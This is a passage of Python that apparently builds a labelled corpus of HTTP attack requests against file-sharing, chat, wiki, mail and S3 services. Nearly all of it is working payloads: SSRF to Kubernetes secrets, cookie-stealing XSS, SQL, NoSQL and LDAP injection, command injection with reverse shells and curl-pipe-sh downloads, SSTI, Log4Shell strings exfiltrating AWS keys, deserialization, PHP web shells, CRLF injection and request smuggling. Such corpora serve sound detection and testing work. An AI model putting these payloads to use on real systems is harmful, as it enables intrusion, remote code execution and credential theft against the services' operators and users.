    "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    "https://kubernetes.default.svc.cluster.local:443/api/v1/secrets",
    "http://minio.storage.svc.cluster.local:9000/minio/v2/metrics/cluster",
    "http://vault.vault.svc:8200/v1/sys/health", "http://10.0.0.1:10250/pods",
    "gopher://127.0.0.1:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A%2A3%0D%0A%243%0D%0Aset%0D%0A",
    "file:///etc/passwd", "dict://127.0.0.1:11211/stats", "http://user@evil.example@127.0.0.1/",
    "http://localtest.me:8500/v1/agent/self", "ldap://127.0.0.1:389/%0astats%0aquit",
]


@attack
def a_ssrf():
    T = SSRF_TARGETS
    for i, url in enumerate(T):
        op = i % 7
        if op == 0:
            rec("ssrf", "link-unfurl", "GET", "/api/v4/opengraph?" + qs([("url", url)]), H("chat", None, bearer()))
        elif op == 1:
            rec("ssrf", "matrix-preview", "GET", "/_matrix/media/v3/preview_url?" + qs([("url", url)]),
                H("chat", "Element/1.11.66", bearer()))
        elif op == 2:
            rec("ssrf", "webhook-create", "POST", "/api/v4/hooks/outgoing", H("chat", None, bearer(), "application/json"),
                json.dumps({"team_id": hexid(26), "display_name": "deploy", "trigger_words": ["deploy"],
                            "callback_urls": [url], "content_type": "application/json"}))
        elif op == 3:
            rec("ssrf", "import-from-url", "POST", "/index.php/apps/files/ajax/newfile.php",
                H("dav", None, None, "application/x-www-form-urlencoded", extra=[["requesttoken", hexid(40)]]),
                qs([("dir", "/Documents"), ("filename", "import.txt"), ("source", url)]))
        elif op == 4:
            rec("ssrf", "wopi-callback", "POST", "/index.php/apps/onlyoffice/track?doc=" + hexid(40),
                H("office", "Node.js/20", "Bearer " + hexid(40), "application/json", cookie=False),
                json.dumps({"key": hexid(20), "status": 2, "url": url, "users": ["admin"]}))
        elif op == 5:
            rec("ssrf", "remote-share", "POST", "/ocs/v2.php/apps/files_sharing/api/externalShares?format=json",
                H("dav", None, basic(pick(USERS)), "application/x-www-form-urlencoded", extra=[["OCS-APIRequest", "true"]]),
                qs([("remote", url), ("token", hexid(15)), ("owner", "admin"), ("name", "shared")]))
        else:
            rec("ssrf", "wopi-discovery-url", "PUT", "/ocs/v2.php/apps/richdocuments/ajax/admin.php",
                H("dav", None, basic("admin"), "application/json", extra=[["OCS-APIRequest", "true"]]),
                json.dumps({"wopi_url": url, "disable_certificate_verification": True}))
    for url in R.sample(T, 4):
        rec("ssrf", "s3-notification-target", "PUT", "/%s?notification" % pick(BUCKETS), s3h("application/xml"),
            '<NotificationConfiguration><QueueConfiguration><Queue>arn:minio:sqs::1:webhook</Queue>'
            '<Event>s3:ObjectCreated:*</Event></QueueConfiguration><WebhookEndpoint>%s</WebhookEndpoint>'
            '</NotificationConfiguration>' % url.replace("&", "&amp;"))
    for url in R.sample(T, 3):
        rec("ssrf", "avatar-from-url", "POST", "/_matrix/media/v3/upload?" + qs([("filename", "avatar.png"), ("url", url)]),
            H("chat", "Element/1.11.66", bearer(), "application/json"), json.dumps({"avatar_url": url}))
    for url in R.sample(T, 4):
        rec("ssrf", "chat-message-link", "POST", "/api/v4/posts", H("chat", None, bearer(), "application/json"),
            json.dumps({"channel_id": hexid(26), "message": "check this " + url,
                        "props": {"attachments": [{"image_url": url}]}}))


XSS = [
    "<script>fetch('https://x.attacker.example/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=alert(1)>",
    "\"><script>alert(String.fromCharCode(88,83,83))</script>",
    "<iframe src=\"javascript:alert(`xss`)\"></iframe>",
    "<details open ontoggle=\"fetch('//evil.example/'+localStorage.token)\">",
    "<a href=\"jAvAsCrIpT:alert(1)\">click me</a>",
    "<body onload=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
    "'-alert(1)-'",
    "<img src=1 oNeRrOr=import('//evil.example/x.js')>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<input autofocus onfocus=alert(document.cookie)>",
    "<video><source onerror=\"javascript:alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
]


@attack
def a_xss():
    kinds = ["mattermost", "slack", "matrix", "form"]
    for i, x in enumerate(XSS[:8]):
        chat_post(kinds[i % 4], "chat-message", pick(["hey ", "", "see: "]) + x, cat="xss")
    for i, x in enumerate(["[click here](javascript:alert(document.cookie))", "[docs](javascript&#58;alert(1))",
                           "![img](x\" onerror=\"alert(1))"]):
        chat_post(kinds[i % 4], "chat-markdown", x, cat="xss")
    room = "!%s:example.org" % hexid(18)
    rec("xss", "matrix-formatted-body", "PUT", "/_matrix/client/v3/rooms/%s/send/m.room.message/m1" % q(room, ""),
        H("chat", "Element/1.11.66", bearer(), "application/json"),
        json.dumps({"msgtype": "m.text", "body": "hi", "format": "org.matrix.custom.html",
                    "formatted_body": "<font color=red onmouseover=alert(1)>hi</font><img src=x onerror=alert(2)>"}))
    for i, x in enumerate(XSS[:6]):
        u = pick(USERS)
        name = "report%s.pdf" % x if i % 2 else x + ".png"
        if i % 3 == 0:
            rec("xss", "webdav-filename", "PUT", "%s/%s" % (dav_base(u), q(name)),
                H("dav", pick(UA_DAV), basic(u), "application/octet-stream"), "data")
        elif i % 3 == 1:
            rec("xss", "webdav-mkcol-name", "MKCOL", "%s/%s" % (dav_base(u), q(name)), H("dav", pick(UA_DAV), basic(u)))
        else:
            rec("xss", "s3-key-meta", "PUT", "/%s/%s" % (pick(BUCKETS), q(name)),
                s3h("image/png", [["x-amz-meta-title", x]]), "\u0089PNG")
    for i, x in enumerate(XSS[2:8]):
        s, d, l = pick(EVENTS)
        fld = i % 3
        rec("xss", "caldav-event-field", "PUT", "/remote.php/dav/calendars/%s/personal/%s.ics" % (q(pick(USERS)), hexid(10)),
            H("dav", pick(UA_DAV), basic(pick(USERS)), "text/calendar; charset=utf-8"),
            ics(x if fld == 0 else s, x if fld == 1 else d, x if fld == 2 else l))
    for x in XSS[9:11]:
        rec("xss", "carddav-field", "PUT", "/remote.php/dav/addressbooks/users/%s/contacts/%s.vcf" % (q(pick(USERS)), hexid(10)),
            H("dav", pick(UA_DAV), basic(pick(USERS)), "text/vcard"), vcard("Mallory " + x, "Evil Corp", "m@evil.example", x))
    wiki = [
        '<ac:structured-macro ac:name="html"><ac:plain-text-body><![CDATA[<script>new Image().src="//evil.example/?"+document.cookie</script>]]></ac:plain-text-body></ac:structured-macro>',
        '<p><a href="javascript:alert(document.domain)">Runbook</a></p>',
        '<ac:image ac:alt="x" onerror="alert(1)"><ri:url ri:value="x" /></ac:image>',
        '<p style="background:url(javascript:alert(1))">hi</p><div onmouseover="alert(1)">hover</div>',
        '<ac:link><ri:page ri:content-title="\'><svg onload=alert(1)>" /></ac:link>',
    ]
    for w in wiki:
        rec("xss", "wiki-storage", "PUT", "/rest/api/content/%d" % R.randint(10000, 999999),
            H("wiki", None, basic(pick(USERS)), "application/json"),
            json.dumps({"type": "page", "title": "Runbook", "version": {"number": 3},
                        "body": {"storage": {"value": w, "representation": "storage"}}}))
    svg = ['<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"><circle r="40"/></svg>',
           '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script type="text/javascript">fetch("//evil.example/?c="+document.cookie)</script></svg>',
           '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text y="20">click</text></a></svg>']
    for i, s in enumerate(svg):
        if i == 1:
            ct, body = multipart([("channel_id", hexid(26))], [("files", "logo.svg", "image/svg+xml", s)])
            rec("xss", "svg-upload", "POST", "/api/v4/files", H("chat", None, bearer(), ct), body)
        else:
            rec("xss", "svg-upload", "PUT", "/%s/public/logo-%d.svg" % (pick(BUCKETS), i), s3h("image/svg+xml"), s)
    rec("xss", "html-upload", "PUT", "%s/Public/index.html" % dav_base("alice"),
        H("dav", pick(UA_DAV), basic("alice"), "text/html"),
        "<html><body><h1>Shared</h1><script>document.location='https://evil.example/steal?c='+document.cookie</script></body></html>")
    for x in XSS[:3]:
        mail_send("webmail-html", "Invoice", "<p>Please see attached</p>" + x, cat="xss", html=True)
    rec("xss", "share-note", "POST", "/ocs/v2.php/apps/files_sharing/api/v1/shares?format=json",
        H("dav", None, basic(pick(USERS)), "application/x-www-form-urlencoded", extra=[["OCS-APIRequest", "true"]]),
        qs([("path", "/Documents"), ("shareType", "3"), ("note", XSS[5])]))
    rec("xss", "reflected-search", "GET", "/index.php/apps/files/?" + qs([("dir", "/"), ("search", XSS[3])]), H("dav"))
    rec("xss", "redirect-url", "GET", "/index.php/login?redirect_url=" + q("javascript:alert(document.domain)//", ""), H("dav"))
    rec("xss", "webhook-username", "POST", "/hooks/" + hexid(26), H("chat", "curl/8.5.0", None, "application/json", cookie=False),
        json.dumps({"text": "build ok", "username": "<img src=x onerror=alert(1)>", "icon_url": "javascript:alert(1)"}))


SQLI = [
    "' OR '1'='1' -- ", "x' UNION SELECT uid,password,null,null FROM oc_users-- -",
    "1) AND (SELECT 4521 FROM (SELECT(SLEEP(5)))a)-- ", "'; DROP TABLE oc_filecache;--",
    "budget' AND extractvalue(1,concat(0x7e,(SELECT version())))-- ",
    "%' AND 1=CAST((SELECT string_agg(token,',') FROM oc_share) AS int)--",
    "1 AND (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END)",
    "\" or \"\"=\"", "admin'/**/UnIoN/**/SeLeCt/**/1,2,group_concat(password)/**/FrOm/**/users#",
    "1;WAITFOR DELAY '0:0:5'--", "' || (SELECT load_file('/etc/passwd')) || '",
    "-1 UNION ALL SELECT NULL,table_name FROM information_schema.tables--",
]


@attack
def a_sqli():
    for i, p in enumerate(SQLI):
        op = i % 6
        if op == 0:
            rec("sqli", "files-search", "GET", "/ocs/v2.php/search/providers/files/search?" + qs([("term", p), ("limit", "5")]),
                H("dav", None, basic(pick(USERS)), extra=[["OCS-APIRequest", "true"]]))
        elif op == 1:
            rec("sqli", "chat-search", "POST", "/api/v4/teams/%s/posts/search" % hexid(26),
                H("chat", None, bearer(), "application/json"), json.dumps({"terms": p, "is_or_search": False}))
        elif op == 2:
            rec("sqli", "webmail-search", "GET", "/?" + qs([("_task", "mail"), ("_action", "search"), ("_q", p), ("_mbox", "INBOX")]),
                H("mail"))
        elif op == 3:
            rec("sqli", "s3-list-prefix", "GET", "/%s?%s" % (pick(BUCKETS), qs([("list-type", "2"), ("prefix", p)])), s3h())
        elif op == 4:
            rec("sqli", "share-token", "GET", "/s/%s" % q(p, ""), H("dav"))
        else:
            rec("sqli", "wiki-cql", "GET", "/rest/api/content/search?" + qs([("cql", 'title ~ "%s"' % p)]),
                H("wiki", None, basic(pick(USERS))))
    rec("sqli", "calendar-sort", "GET", "/apps/calendar/api/v1/events?" + qs([("sort", "start,(SELECT 1 FROM pg_sleep(5))"), ("order", "asc")]),
        H("dav", None, bearer()))
    rec("sqli", "user-id-path", "GET", "/api/v4/users/1%20OR%201%3D1/sessions", H("chat", None, bearer()))
    rec("sqli", "cookie", "GET", "/index.php/apps/files/", [["Host", "cloud.example.com"], ["User-Agent", UAS[0]],
        ["Cookie", "nc_username=admin'--; oc_sessionPassphrase=" + hexid(40)]])
    rec("sqli", "tag-filter", "REPORT", "%s/" % dav_base("bob"), H("dav", pick(UA_DAV), basic("bob"), "application/xml"),
        '<?xml version="1.0"?><oc:filter-files xmlns:d="DAV:" xmlns:oc="http://owncloud.org/ns"><oc:filter-rules>'
        "<oc:systemtag>1 UNION SELECT password FROM oc_users</oc:systemtag></oc:filter-rules></oc:filter-files>")


NOSQLI = [
    ({"username": {"$ne": None}, "password": {"$ne": None}}, "login"),
    ({"username": "admin", "password": {"$gt": ""}}, "login"),
    ({"user_id": {"$regex": "^a.*"}, "token": {"$exists": True}}, "token"),
    ({"$where": "function(){ sleep(5000); return true; }"}, "search"),
    ({"filter": {"owner": {"$in": ["admin", "root"]}, "$or": [{"public": True}, {"1": {"$eq": 1}}]}}, "search"),
    ({"channel_id": {"$nin": []}, "message": {"$regex": ".*"}}, "search"),
]


@attack
def a_nosqli():
    for body, what in NOSQLI:
        path = {"login": "/api/v1/login", "token": "/api/v1/share/validate", "search": "/api/v1/messages/search"}[what]
        rec("nosqli", "json-" + what, "POST", path, H("chat", None, None if what == "login" else bearer(), "application/json"),
            json.dumps(body))
    for qp in [[("username[$ne]", "x"), ("password[$ne]", "x")], [("email[$regex]", ".*@example.com"), ("limit", "1000")],
               [("shareToken[$gt]", ""), ("path", "/")], [("filter[owner][$ne]", "nobody")],
               [("q", '{"$where":"this.password.match(/^a/)"}')]]:
        rec("nosqli", "query-operator", "GET", "/api/v1/files?" + qs(qp), H("chat", None, bearer()))
    rec("nosqli", "form-operator", "POST", "/api/v1/login", H("chat", None, None, "application/x-www-form-urlencoded"),
        "user=admin&password%5B%24ne%5D=wrong")
    rec("nosqli", "mongo-js", "POST", "/api/v1/rooms.search", H("chat", None, bearer(), "application/json"),
        json.dumps({"query": "'; return db.users.find(); var x='"}))


LDAPI = ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "x)(|(mail=*))",
         "*)(memberOf=cn=admins,ou=groups,dc=example,dc=com", "jdoe)(userPassword=*)",
         "*))%00", "admin*)((|userPassword=*)", "*(|(cn=*))", ")(cn=*))(|(cn=*"]


@attack
def a_ldapi():
    for i, p in enumerate(LDAPI):
        op = i % 4
        if op == 0:
            rec("ldapi", "user-search", "GET", "/ocs/v2.php/cloud/users?" + qs([("search", p), ("format", "json")]),
                H("dav", None, basic("admin"), extra=[["OCS-APIRequest", "true"]]))
        elif op == 1:
            rec("ldapi", "group-lookup", "GET", "/ocs/v2.php/cloud/groups?" + qs([("search", p)]),
                H("dav", None, basic("admin"), extra=[["OCS-APIRequest", "true"]]))
        elif op == 2:
            rec("ldapi", "sharee-search", "GET", "/ocs/v2.php/apps/files_sharing/api/v1/sharees?" + qs(
                [("search", p), ("itemType", "file"), ("perPage", "200")]), H("dav", None, basic(pick(USERS)), extra=[["OCS-APIRequest", "true"]]))
        else:
            rec("ldapi", "login", "POST", "/login", H("dav", None, None, "application/x-www-form-urlencoded"),
                qs([("user", p), ("password", "x"), ("requesttoken", hexid(40))]))
    rec("ldapi", "principal-search", "REPORT", "/remote.php/dav/principals/", H("dav", pick(UA_DAV), basic("bob"), "application/xml"),
        '<?xml version="1.0"?><d:principal-property-search xmlns:d="DAV:"><d:property-search><d:prop><d:displayname/></d:prop>'
        '<d:match>*)(uid=*))(|(uid=*</d:match></d:property-search><d:prop><d:displayname/></d:prop></d:principal-property-search>')


RCE = [
    "pdf; curl -s http://203.0.113.9/x.sh | sh", "png`id`", "pdf && cat /etc/passwd", "docx|nc -e /bin/sh 203.0.113.9 4444",
    "$(wget -qO- http://evil.example/k8s.sh|bash)", "1-3;bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
    "256x256'; rm -rf /tmp/*; echo '", "jpg\nwget http://evil.example/m -O /tmp/m;chmod +x /tmp/m;/tmp/m",
    "pdf;${IFS}cat${IFS}/var/run/secrets/kubernetes.io/serviceaccount/token", "odt||python3 -c 'import os;os.system(\"id\")'",
]


@attack
def a_rce():
    for i, p in enumerate(RCE):
        op = i % 5
        if op == 0:
            rec("rce", "convert-format", "POST", "/ocs/v2.php/apps/richdocuments/api/v1/convert?format=json",
                H("dav", None, basic(pick(USERS)), "application/json", extra=[["OCS-APIRequest", "true"]]),
                json.dumps({"fileId": R.randint(1, 9999), "targetFormat": p}))
        elif op == 1:
            rec("rce", "thumbnail-size", "GET", "/index.php/core/preview?" + qs([("fileId", "42"), ("x", p), ("y", "256")]), H("dav"))
        elif op == 2:
            rec("rce", "convert-form", "POST", "/convert", H("office", None, bearer(), "application/x-www-form-urlencoded"),
                qs([("input", "report.docx"), ("outputtype", p), ("title", "report")]))
        elif op == 3:
            rec("rce", "imagemagick-param", "GET", "/thumb/%s/photo.jpg?%s" % (pick(BUCKETS), qs([("resize", p), ("format", "webp")])),
                H("s3", UAS[1], None, cookie=False))
        else:
            rec("rce", "convert-pagerange", "POST", "/ocs/v2.php/apps/richdocuments/api/v1/convert?format=json",
                H("dav", None, basic(pick(USERS)), "application/json", extra=[["OCS-APIRequest", "true"]]),
                json.dumps({"fileId": 7, "targetFormat": "pdf", "options": {"pageRange": p}}))
    for fn in ["photo.jpg;id", "$(curl evil.example|sh).png", "a`touch /tmp/pwn`.docx", "x.pdf|ping -c 5 203.0.113.9"]:
        rec("rce", "filename-to-converter", "PUT", "%s/Uploads/%s" % (dav_base("carol.nguyen"), q(fn)),
            H("dav", pick(UA_DAV), basic("carol.nguyen"), "application/octet-stream", extra=[["OC-Convert", "pdf"]]), "data")
    mvg = ('push graphic-context\nviewbox 0 0 640 480\nfill \'url(https://example.com/image.jpg"|curl -s http://203.0.113.9/s|sh")\'\n'
           'pop graphic-context\n')
    rec("rce", "imagetragick-upload", "PUT", "%s/Photos/avatar.png" % dav_base("oleg"), H("dav", pick(UA_DAV), basic("oleg"), "image/png"), mvg)
    rec("rce", "ghostscript-eps", "PUT", "/%s/previews/doc.eps" % pick(BUCKETS), s3h("application/postscript"),
        "%!PS\n%%BoundingBox: 0 0 100 100\n/OutputFile (%pipe%id > /tmp/pwned) (w) file\nshowpage\n")
    rec("rce", "slash-command", "POST", "/hooks/commands/" + hexid(26), H("chat", "Mattermost-Bot/1.1", "Token " + hexid(26),
        "application/x-www-form-urlencoded"), qs([("command", "/deploy"), ("text", "staging; cat /etc/shadow"), ("user_name", "mallory")]))
    rec("rce", "git-import-url", "POST", "/api/v1/repos/import", H("wiki", None, bearer(), "application/json"),
        json.dumps({"url": "--upload-pack=touch /tmp/pwned", "branch": "main"}))


SSTI = ["{{7*7}}{{config.items()}}", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
        "${7*7}<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
        "{{''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}",
        "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x",
        "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
        "*{T(java.lang.Runtime).getRuntime().exec('id')}", "{% import os %}{{ os.system('id') }}",
        "<%= `id` %>", "{{request.application.__globals__.__builtins__.__import__('os').popen('whoami').read()}}",
        "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"]


@attack
def a_ssti():
    for i, p in enumerate(SSTI):
        op = i % 4
        if op == 0:
            rec("ssti", "notification-template", "PUT", "/api/v4/users/%s/patch" % hexid(26),
                H("chat", None, bearer(), "application/json"),
                json.dumps({"notify_props": {"auto_responder_active": "true", "auto_responder_message": "Out of office " + p}}))
        elif op == 1:
            mail_send("email-template", "Hello " + p, "Dear {{name}},\n\n" + p + "\n\nRegards", cat="ssti")
        elif op == 2:
            rec("ssti", "admin-mail-template", "POST", "/ocs/v2.php/apps/settings/admin/mailtemplate",
                H("dav", None, basic("admin"), "application/json", extra=[["OCS-APIRequest", "true"]]),
                json.dumps({"template": "share_notification", "subject": "{{user}} shared a file", "body": p}))
        else:
            rec("ssti", "share-link-label", "POST", "/ocs/v2.php/apps/files_sharing/api/v1/shares?format=json",
                H("dav", None, basic(pick(USERS)), "application/x-www-form-urlencoded", extra=[["OCS-APIRequest", "true"]]),
                qs([("path", "/Documents/plan.pdf"), ("shareType", "4"), ("shareWith", "ext@example.com"), ("label", p)]))
    rec("ssti", "webhook-template", "POST", "/api/v4/hooks/incoming", H("chat", None, bearer(), "application/json"),
        json.dumps({"channel_id": hexid(26), "display_name": "alerts", "description": "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"}))


JNDI = ["${jndi:ldap://203.0.113.9:1389/Exploit}", "${jndi:dns://x.oast.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/o}", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example:1099/x}",
        "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oast.example/}", "${${env:NaN:-j}ndi${env:NaN:-:}ldap://evil.example/a}",
        "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.9%2Fa%7D", "${j${k8s:k5:-ND}i:ldap://evil.example/x}"]


@attack
def a_java():
    hdrs = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "x-amz-meta-author", "Destination", "Cookie"]
    for i, p in enumerate(JNDI):
        name = hdrs[i]
        val = p if name != "Cookie" else "JSESSIONID=" + p
        if name == "Authorization":
            val = "Bearer " + p
        if name == "Destination":
            val = "https://cloud.example.com/remote.php/dav/files/bob/" + p
        kind = "s3" if name.startswith("x-amz") else "dav"
        h = s3h(extra=[[name, val]]) if kind == "s3" else [x for x in H("dav", pick(UA_DAV)) if x[0] != name] + [[name, val]]
        uri = "/%s/%s" % (pick(BUCKETS), q(s3key())) if kind == "s3" else "%s/%s" % (dav_base("bob"), q(pick(FILES)))
        rec("java", "log4shell-header", "MOVE" if name == "Destination" else pick(["GET", "PROPFIND"]) if kind == "dav" else "PUT",
            uri, h, "x" if kind == "s3" else None)
    kinds = ["mattermost", "slack", "matrix", "form"]
    for i, p in enumerate(JNDI[:5]):
        chat_post(kinds[i % 4], "log4shell-chat", "lol " + p, cat="java")
    rec("java", "log4shell-search", "GET", "/rest/api/content/search?" + qs([("cql", "text ~ \"%s\"" % JNDI[2])]), H("wiki", None, basic("bob")))
    rec("java", "log4shell-tus-ua", "POST", "/files/", [["Host", "upload.acme.io"], ["User-Agent", JNDI[0]],
        ["Tus-Resumable", "1.0.0"], ["Upload-Length", "10"], ["Upload-Metadata", "filename " + base64.b64encode(b"a.txt").decode()]])
    ser = base64.b64encode(b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap\x05\x07\xda\xc1\xc3\x16`\xd1\x03\x00\x02F\x00\nloadFactorI\x00\tthresholdxp?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01sr\x00\x0cjava.net.URL").decode()
    rec("java", "deserialization-cookie", "GET", "/confluence/pages/viewpage.action?pageId=1", [["Host", "confluence.acme.io"],
        ["User-Agent", UAS[1]], ["Cookie", "seraph.confluence=" + ser]])
    rec("java", "deserialization-body", "POST", "/wiki/rest/synchrony/sync", H("wiki", None, None, "application/x-java-serialized-object"),
        "\u00ac\u00ed\u0000\u0005sr\u00002org.apache.commons.collections.functors.InvokerTransformer")
    rec("java", "ognl-confluence", "GET", "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/", H("wiki"))
    rec("java", "spring4shell", "POST", "/wiki/upload", H("wiki", None, None, "application/x-www-form-urlencoded"),
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di&"
        "class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&"
        "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT")


SHELLS = [
    ("shell.php", "<?php system($_GET['cmd']); ?>"),
    ("image.php.jpg", "\u00ff\u00d8\u00ff\u00e0<?php @eval($_POST['x']);?>"),
    ("config.phtml", "<?php echo shell_exec($_REQUEST['c']); ?>"),
    ("x.php5", "<?=`$_GET[0]`?>"),
    (".htaccess", "AddType application/x-httpd-php .png\nphp_value auto_prepend_file \"php://input\""),
    ("upload.pHp", "<?php $f=base64_decode($_POST['f']);file_put_contents('/var/www/html/s.php',$f); ?>"),
    ("a.php;.txt", "<?php passthru($_GET['c']); ?>"),
    ("thumb.gif", "GIF89a<?php assert($_REQUEST['a']); ?>"),
    ("index.php", "<?php $c=$_COOKIE['c'];preg_replace('/.*/e',$c,''); ?>"),
    ("wso.php", "<?php eval(gzinflate(base64_decode('7X1rcxs3ku...'))); ?>"),
]


@attack
def a_php():
    for i, (fn, c) in enumerate(SHELLS):
        u = pick(USERS)
        op = i % 4
        if op in (0, 1):
            rec("php", "webdav-put-shell", "PUT", "%s/%s" % (dav_base(u), q(fn)),
                H("dav", pick(UA_DAV), basic(u), pick(["application/octet-stream", "image/jpeg", "text/plain"])), c)
        elif op == 2:
            ct, body = multipart([("dir", "/")], [("files[]", fn, "image/png", c)])
            rec("php", "multipart-shell", "POST", "/index.php/apps/files/ajax/upload.php", H("dav", None, None, ct), body)
        else:
            rec("php", "s3-put-shell", "PUT", "/%s/%s" % (pick(BUCKETS), q("public/" + fn)), s3h("application/x-php"), c)
    rec("php", "webshell-exec", "GET", "/remote.php/dav/files/alice/shell.php?cmd=" + q("cat /etc/passwd", ""), H("dav"))
    rec("php", "php-filter-param", "GET", "/index.php/apps/theming/image?file=" + q("php://filter/convert.base64-encode/resource=../config/config.php", ""), H("dav"))
    rec("php", "phar-deser", "POST", "/index.php/apps/files/ajax/getstoragestats", H("dav", None, None, "application/x-www-form-urlencoded"),
        qs([("dir", "phar:///var/www/html/data/alice/files/avatar.jpg/test.txt")]))
    rec("php", "serialized-cookie", "GET", "/index.php/apps/files/", [["Host", "cloud.example.com"], ["User-Agent", UAS[0]],
        ["Cookie", "oc_rememberme=" + q('O:8:"stdClass":1:{s:4:"exec";s:2:"id";}', "")]])


CRLF = ["%0d%0aSet-Cookie:%20session=attacker", "%0D%0ALocation:%20https://evil.example/", "%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
        "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1", "%0aX-Injected:%201", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK"]


@attack
def a_crlf():
    for i, c in enumerate(CRLF):
        op = i % 3
        if op == 0:
            rec("crlf", "redirect-param", "GET", "/index.php/login?redirect_url=/apps/files/" + c, H("dav"))
        elif op == 1:
            rec("crlf", "s3-response-disposition", "GET", "/%s/%s?%s&response-content-disposition=attachment;filename=a.pdf%s" % (
                pick(BUCKETS), q(s3key()), presign(), c), s3h(presigned=True))
        else:
            rec("crlf", "download-filename", "GET", "/s/%s/download?files=report.pdf%s" % (hexid(15), c), H("dav"))
    rec("crlf", "share-redirect", "GET", "/index.php/s/%s/authenticate/showShare?redirect=%s" % (hexid(15), CRLF[1]), H("dav"))
    rec("crlf", "mail-header-injection", "POST", "/?_task=mail&_action=send", H("mail", None, None, "application/x-www-form-urlencoded"),
        "_to=bob%40example.com&_subject=Hi%0d%0aBcc:%20everyone@example.com%0d%0a&_message=hello&_token=" + hexid(32))
    rec("crlf", "wopi-filename", "POST", "/wopi/files/%s?access_token=%s" % (hexid(12), hexid(40)), H("office", "COOLWSD HTTP Agent 23.05.10.1", None, cookie=False,
        extra=[["X-WOPI-Override", "PUT_RELATIVE"], ["X-WOPI-SuggestedTarget", "report.docx%0d%0aSet-Cookie: a=b"]]))
    rec("crlf", "webdav-path", "GET", "%s/file.txt%%0d%%0aX-Forwarded-Host:%%20evil.example" % dav_base("bob"), H("dav", pick(UA_DAV), basic("bob")))


@attack
def a_protocol():
    base = lambda: "%s/%s" % (dav_base(pick(USERS)), q(pick(FILES)))
    for m in ["DELETE", "PUT", "PROPPATCH"]:
        for hdr in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"]:
            if R.random() < 0.5:
                continue
            rec("protocol", "method-override", "POST", base(), H("dav", None, basic(pick(USERS)), extra=[[hdr, m]]))
    rec("protocol", "method-override-param", "POST", "/api/v4/posts/%s?_method=DELETE" % hexid(26), H("chat", None, bearer()))
    te = ["chunked", " chunked", "chunked, identity", "xchunked", "chunked\t", "Chunked", "identity, chunked", "chunk"]
    for i, t in enumerate(te):
        h = [["Host", pick(HOSTS["s3"])], ["User-Agent", pick(UA_S3)], ["Content-Length", "4"], ["Transfer-Encoding", t]]
        rec("protocol", "te-smuggling", "PUT" if i % 2 else "POST", "/%s/%s" % (pick(BUCKETS), q(s3key())) if i % 2 else "/files/",
            h, "0\r\n\r\nGET /minio/admin/v3/info HTTP/1.1\r\nHost: localhost\r\n\r\n")
    rec("protocol", "double-te", "POST", "/api/v4/posts", [["Host", "chat.example.com"], ["User-Agent", UAS[0]],
        ["Transfer-Encoding", "chunked"], ["Transfer-Encoding", "identity"], ["Content-Type", "application/json"]], "0\r\n\r\n")
    rec("protocol", "double-content-length", "PUT", "%s/a.txt" % dav_base("bob"), [["Host", "cloud.example.com"], ["User-Agent", UA_DAV[0]],
        ["Content-Length", "5"], ["Content-Length", "42"]], "hello")
    rec("protocol", "tus-override-offset", "POST", "/files/%s" % hexid(32), [["Host", "upload.acme.io"], ["User-Agent", "tus-js-client/4.1.0"],
        ["Tus-Resumable", "1.0.0"], ["X-HTTP-Method-Override", "PATCH"], ["Upload-Offset", "-1"], ["Content-Type", "application/offset+octet-stream"]], "AAAA")
    rec("protocol", "trace-method", "TRACE", "/remote.php/dav/", H("dav"))
    rec("protocol", "host-header-injection", "GET", "/index.php/login", [["Host", "cloud.example.com"], ["X-Forwarded-Host", "evil.example"],
        ["X-Original-URL", "/index.php/settings/admin"], ["User-Agent", UAS[0]]])
    rec("protocol", "null-byte-path", "GET", "%s/report.pdf%%00.php" % dav_base("alice"), H("dav"))


@attack
def a_rfi_generic():
    for u in ["http://evil.example/shell.txt?", "https://203.0.113.9/c99.txt%00", "ftp://evil.example/r57.php", "//evil.example/x.php?"]:
        rec("rfi", "template-include", "GET", "/index.php/apps/theming/?" + qs([("template", u)]), H("dav"))
